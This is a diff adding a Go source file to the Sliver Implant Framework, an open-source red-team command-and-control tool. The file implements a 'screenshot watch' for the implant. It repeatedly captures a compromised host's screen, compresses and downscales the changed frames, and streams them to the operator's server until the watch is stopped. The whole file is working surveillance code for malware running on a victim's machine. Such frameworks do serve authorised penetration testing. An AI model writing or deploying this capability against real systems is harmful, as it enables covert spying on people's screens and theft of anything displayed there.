@@ -0,0 +1,184 @@
+package screenshot
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"errors"
+	"image"
+	"image/jpeg"
+	"sync"
+	"time"
+
+	// {{if .Debug}}
+	"log"
+	// {{end}}
+
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	screen "github.com/bishopfox/sliver/sliver/3rdparty/kbinani/screenshot"
+)
+
+const (
+	defaultWatchInterval = 5 * time.Second
+	defaultQuality       = 40
+	defaultScale         = 50
+)
+
+var (
+	// ErrAlreadyWatching - A watch has already been started
+	ErrAlreadyWatching = errors.New("Screenshot watch is already running")
+	// ErrNotWatching - No watch has been started
+	ErrNotWatching = errors.New("Screenshot watch is not running")
+
+	watchMutex    = &sync.Mutex{}
+	watching      = false
+	watchInterval time.Duration
+	watchDisplay  int
+	stopWatch     chan bool
+)
+
+// SendFunc - Sends a frame to the server, frames that fail to send are dropped
+type SendFunc func(*sliverpb.ScreenshotFrame) error
+
+// StartWatch - Capture the display every interval and send each frame that
+// changed as a JPEG of the given quality, scaled to a percent of its size
+func StartWatch(interval time.Duration, display int, quality int, scale int, sendFunc SendFunc) error {
+	watchMutex.Lock()
+	defer watchMutex.Unlock()
+	if watching {
+		return ErrAlreadyWatching
+	}
+	if display < 0 || screen.NumActiveDisplays() < display {
+		return ErrInvalidDisplay
+	}
+	if interval <= 0 {
+		interval = defaultWatchInterval
+	}
+	if quality <= 0 || 100 < quality {
+		quality = defaultQuality
+	}
+	if scale <= 0 || 100 < scale {
+		scale = defaultScale
+	}
+	stopWatch = make(chan bool)
+	watching = true
+	watchInterval = interval
+	watchDisplay = display
+	go watch(interval, display, quality, scale, sendFunc, stopWatch)
+	return nil
+}
+
+// StopWatch - Stop capturing
+func StopWatch() error {
+	watchMutex.Lock()
+	defer watchMutex.Unlock()
+	if !watching {
+		return ErrNotWatching
+	}
+	close(stopWatch)
+	watching = false
+	return nil
+}
+
+// WatchStatus - Is a watch running, and its interval and display
+func WatchStatus() (bool, time.Duration, int) {
+	watchMutex.Lock()
+	defer watchMutex.Unlock()
+	return watching, watchInterval, watchDisplay
+}
+
+func watch(interval time.Duration, display int, quality int, scale int, sendFunc SendFunc, stop chan bool) {
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	var last []byte
+	sequence := uint32(0)
+	for {
+		frame, err := captureFrame(display, quality, scale)
+		if err != nil {
+			// {{if .Debug}}
+			log.Printf("Screenshot watch capture failed: %v", err)
+			// {{end}}
+		} else if !bytes.Equal(frame, last) {
+			sequence++
+			err = sendFunc(&sliverpb.ScreenshotFrame{
+				Data:      frame,
+				Timestamp: time.Now().Unix(),
+				Sequence:  sequence,
+			})
+			if err == nil {
+				last = frame
+			}
+			// {{if .Debug}}
+			if err != nil {
+				log.Printf("Failed to send screenshot frame: %v", err)
+			}
+			// {{end}}
+		}
+		select {
+		case <-stop:
+			return
+		case <-ticker.C:
+		}
+	}
+}
+
+func captureFrame(display int, quality int, scale int) ([]byte, error) {
+	rect := allDisplayBounds()
+	if 0 < display {
+		rect = screen.GetDisplayBounds(display - 1)
+	}
+	img, err := screen.Capture(rect.Min.X, rect.Min.Y, rect.Dx(), rect.Dy())
+	if err != nil {
+		return nil, err
+	}
+	var buf bytes.Buffer
+	err = jpeg.Encode(&buf, downscale(img, scale), &jpeg.Options{Quality: quality})
+	if err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+// downscale - Nearest neighbor scaling to a percent of the original size,
+// it's crude but cheap and the frames are only meant to be glanced at
+func downscale(img *image.RGBA, percent int) *image.RGBA {
+	bounds := img.Bounds()
+	if percent <= 0 || 100 <= percent || bounds.Empty() {
+		return img
+	}
+	width := bounds.Dx() * percent / 100
+	height := bounds.Dy() * percent / 100
+	if width < 1 {
+		width = 1
+	}
+	if height < 1 {
+		height = 1
+	}
+	scaled := image.NewRGBA(image.Rect(0, 0, width, height))
+	for y := 0; y < height; y++ {
+		srcY := bounds.Min.Y + y*bounds.Dy()/height
+		for x := 0; x < width; x++ {
+			srcX := bounds.Min.X + x*bounds.Dx()/width
+			src := img.PixOffset(srcX, srcY)
+			dst := scaled.PixOffset(x, y)
+			copy(scaled.Pix[dst:dst+4], img.Pix[src:src+4])
+		}
+	}
+	return scaled
+}